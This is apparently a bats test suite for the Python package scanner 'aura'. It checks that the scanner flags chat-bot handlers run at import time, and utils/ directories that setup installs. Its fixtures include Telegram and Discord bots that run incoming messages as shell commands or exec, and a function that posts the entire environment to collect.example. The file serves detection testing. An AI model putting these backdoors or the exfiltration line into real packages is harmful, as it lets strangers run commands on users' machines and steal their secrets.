#!/usr/bin/env bats
# 49e-recall5.bats: recall, part 5 (issue 11): functions registered as event handlers
# (`@bot.message_handler(...)`, `@client.event`, `@app.route`) run once the event loop that
# calls them is started (`bot.polling()`, `client.run()`), and their arguments come from the
# network; repository directories (utils/, tools/) that the setup installs as packages are
# installed code — each with the benign look-alikes that must not fire.

load helpers/common
bats_require_minimum_version 1.5.0

setup() { cd "$BATS_TEST_TMPDIR"; mkdir -p p; }

# hits DIR DETECTION...: "path line detection context score" of those hits, sorted.
hits() {
	local dir=$1
	shift
	local want
	want=$(printf '%s\n' "$@" | jq -R . | jq -sc .)
	aura-fetch "$dir" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r --argjson want "$want" 'select(.type == "hit" and (.detection as $d | $want | index($d))) |
			"\(.path) \(.line) \(.detection) \(.context) \(.score)"' | sort -u
}

# risk DIR: the package's risk level as aura scan reports it.
risk() {
	aura scan --format json "$1" | jq -r 'select(.type == "verdict") | .risk'
}

@test "a chat bot started at import time whose handler runs the message as a shell command: RemoteCommand at import, risk high" {
	mkdir -p p/pkg
	cat > p/pkg/__init__.py <<'PY'
import subprocess
import telebot

bot = telebot.TeleBot("123:abc")

@bot.message_handler(content_types=["text"])
def handle(message):
    command = message.text.strip()
    out = subprocess.check_output(command, shell=True, text=True)
    bot.reply_to(message, out)

def not_a_handler(message):
    subprocess.check_output(message, shell=True)

bot.infinity_polling()
PY
	run hits p RemoteCommand ProcessExecution
	assert_output "$(printf '%s\n' \
		'pkg/__init__.py 13 ProcessExecution function 2' \
		'pkg/__init__.py 9 ProcessExecution import 40' \
		'pkg/__init__.py 9 RemoteCommand import 120')"
	run risk p
	assert_output --regexp '^(high|critical)$'
}

@test "discord @client.event and aiogram's executor.start_polling(dp) start their handlers too" {
	mkdir -p p/pkg
	cat > p/pkg/__init__.py <<'PY'
import os
import discord
from aiogram import Dispatcher, executor

client = discord.Client()
dp = Dispatcher(None)

@client.event
async def on_message(message):
    os.system(message.content)

@dp.message_handler()
async def echo(msg):
    exec(msg.text)

executor.start_polling(dp)
client.run("token")
PY
	run hits p RemoteCommand
	assert_output "$(printf '%s\n' \
		'pkg/__init__.py 10 RemoteCommand import 120' \
		'pkg/__init__.py 14 RemoteCommand import 120')"
}

@test "a Flask app whose routes do ordinary work, run only under __main__: no RemoteCommand, nothing at import time" {
	mkdir -p p/app
	cat > p/app/__init__.py <<'PY'
import json
import subprocess
from flask import Flask, request

app = Flask(__name__)

@app.route("/items/<name>")
def item(name):
    return json.dumps({"name": name, "q": request.args.get("q", "")})

@app.route("/version")
def version():
    return subprocess.check_output(["git", "describe", "--tags"], text=True)

if __name__ == "__main__":
    app.run(debug=True)
PY
	run hits p RemoteCommand ProcessExecution
	assert_output "app/__init__.py 13 ProcessExecution function 1"
	run risk p
	assert_output --regexp '^(info|low)$'
}

@test "a handler that runs its request as a command, in an app nothing starts: RemoteCommand only at the function score" {
	mkdir -p p/app
	cat > p/app/__init__.py <<'PY'
import os
from flask import Flask, request

app = Flask(__name__)

@app.route("/run")
def run_it():
    os.system(request.args["cmd"])

def main():
    app.run()
PY
	run hits p RemoteCommand
	assert_output "app/__init__.py 8 RemoteCommand function 10"
	run risk p
	assert_output --regexp '^(info|low)$'
}

@test "a decorator on a module (@functools.lru_cache) registers nothing: asyncio.run() does not reach it" {
	mkdir -p p/pkg
	cat > p/pkg/__init__.py <<'PY'
import asyncio
import functools
import subprocess

@functools.lru_cache(maxsize=None)
def tool_version(tool):
    return subprocess.check_output([tool, "--version"])

async def main():
    pass

asyncio.run(main())
PY
	run hits p RemoteCommand ProcessExecution
	assert_output "pkg/__init__.py 7 ProcessExecution function 2"
}

# sdist DIR: an sdist tree under DIR/p-1.0 whose utils/ sends the environment to a
# hard-coded host from a function (an installed package's theft; a repository script's CI
# call when nothing installs it).
sdist_with_utils() {
	mkdir -p p/p-1.0/utils p/p-1.0/mypkg
	: > p/p-1.0/mypkg/__init__.py
	printf 'import subprocess\nsubprocess.Popen(["id"])\n' > p/p-1.0/utils/__init__.py
	cat > p/p-1.0/utils/thread.py <<'PY'
import os
import requests

def start():
    requests.post("https://collect.example/up", data=dict(os.environ))
PY
}

# exfil DIR: "path detection context score tags" of the Exfiltration and ProcessExecution
# hits, of the tags only installed or not-installed.
exfil() {
	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r 'select(.type == "hit" and (.detection == "Exfiltration" or .detection == "ProcessExecution")) |
			"\(.path) \(.detection) \(.context) \(.score) \(.tags | map(select(. == "installed" or . == "not-installed")) | join(","))"' |
		sort -u
}

@test "a utils/ package that setup.py's find_packages() installs weighs as installed code, not as a repository script" {
	sdist_with_utils
	cat > p/p-1.0/setup.py <<'PY'
from setuptools import setup, find_packages
setup(name="p", version="1.0", packages=find_packages())
PY
	run exfil p
	assert_output "$(printf '%s\n' \
		'p-1.0/utils/__init__.py ProcessExecution function 2 not-installed' \
		'p-1.0/utils/__init__.py ProcessExecution import 40 installed' \
		'p-1.0/utils/thread.py Exfiltration function 30 installed' \
		'p-1.0/utils/thread.py Exfiltration function 5 not-installed')"
}

@test "packages=[...] (through a name), setup.cfg's packages = find:, pyproject.toml's packages.find and a wheel's top-level utils/ install it too" {
	sdist_with_utils
	cat > p/p-1.0/setup.py <<'PY'
from setuptools import setup
PACKAGES = ["mypkg"] + ["utils"]
setup(name="p", version="1.0", packages=PACKAGES)
PY
	run exfil p
	assert_line 'p-1.0/utils/thread.py Exfiltration function 30 installed'
	printf 'from setuptools import setup\nsetup()\n' > p/p-1.0/setup.py
	printf '[metadata]\nname = p\n\n[options]\npackages = find:\n\n[options.packages.find]\nexclude =\n    tests\n    tests.*\n' > p/p-1.0/setup.cfg
	run exfil p
	assert_line 'p-1.0/utils/thread.py Exfiltration function 30 installed'
	rm p/p-1.0/setup.cfg
	printf '[project]\nname = "p"\n\n[tool.setuptools.packages.find]\nexclude = ["tests*"]\n' > p/p-1.0/pyproject.toml
	run exfil p
	assert_line 'p-1.0/utils/thread.py Exfiltration function 30 installed'
	printf '[project]\nname = "p"\n\n[tool.setuptools]\npackages = ["mypkg"]\n' > p/p-1.0/pyproject.toml
	run exfil p
	refute_output --partial ' installed'
	mkdir -p w/utils w/p-1.0.dist-info
	cp p/p-1.0/utils/thread.py w/utils/thread.py
	printf 'Wheel-Version: 1.0\n' > w/p-1.0.dist-info/WHEEL
	printf 'Name: p\nVersion: 1.0\n' > w/p-1.0.dist-info/METADATA
	(cd w && zip -qr ../p-1.0-py3-none-any.whl .)
	run exfil p-1.0-py3-none-any.whl
	assert_line 'utils/thread.py Exfiltration function 30 installed'
}

@test "a utils/ the setup does not install stays a repository script: excluded, no __init__.py, not listed, src layout" {
	sdist_with_utils
	cat > p/p-1.0/setup.py <<'PY'
from setuptools import setup, find_packages
setup(name="p", version="1.0", packages=find_packages(exclude=["utils", "utils.*"]))
PY
	run exfil p
	refute_output --partial ' installed'
	printf 'from setuptools import setup, find_packages\nsetup(name="p", packages=find_packages())\n' > p/p-1.0/setup.py
	rm p/p-1.0/utils/__init__.py
	run exfil p
	refute_output --partial ' installed'
	: > p/p-1.0/utils/__init__.py
	printf 'from setuptools import setup\nsetup(name="p", packages=["mypkg"])\n' > p/p-1.0/setup.py
	run exfil p
	refute_output --partial ' installed'
	printf 'from setuptools import setup, find_packages\nsetup(name="p", package_dir={"": "src"}, packages=find_packages("src"))\n' > p/p-1.0/setup.py
	run exfil p
	refute_output --partial ' installed'
	printf '[options]\npackages = find:\npackage_dir =\n    =src\n' > p/p-1.0/setup.cfg
	printf 'from setuptools import setup\nsetup()\n' > p/p-1.0/setup.py
	run exfil p
	refute_output --partial ' installed'
	run risk p
	assert_output --regexp '^(info|low)$'
}

@test "a setup.py that lists more packages than Aura follows (4096) cannot hide utils/: every directory counts as installed" {
	sdist_with_utils
	{
		printf 'from setuptools import setup\nsetup(name="p", version="1.0", packages=["mypkg"'
		for i in $(seq 1 4200); do printf ', "pkg%d"' "$i"; done
		printf '])\n'
	} > p/p-1.0/setup.py
	run exfil p
	assert_line 'p-1.0/utils/thread.py Exfiltration function 30 installed'
	# the control: 4000 names, utils/ not among them, is a repository script
	{
		printf 'from setuptools import setup\nsetup(name="p", version="1.0", packages=["mypkg"'
		for i in $(seq 1 4000); do printf ', "pkg%d"' "$i"; done
		printf '])\n'
	} > p/p-1.0/setup.py
	run exfil p
	refute_output --partial ' installed'
}
